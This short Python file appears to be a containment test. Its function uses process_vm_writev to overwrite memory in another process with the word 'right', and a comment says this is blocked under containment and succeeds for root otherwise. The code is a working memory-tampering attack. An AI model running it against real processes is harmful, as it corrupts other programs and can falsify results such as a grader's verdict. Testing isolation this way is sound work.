# contained: forbidden. off: succeeds for root
import ctypes
import os


class Vector(ctypes.Structure):
    _fields_ = (("base", ctypes.c_void_p), ("length", ctypes.c_size_t))


def attack(target):
    libc = ctypes.CDLL(None, use_errno=True)
    lie = ctypes.create_string_buffer(b"right")
    mine, theirs = Vector(ctypes.addressof(lie), 5), Vector(target["address"], 5)
    if libc.process_vm_writev(target["pid"], ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0) < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return True
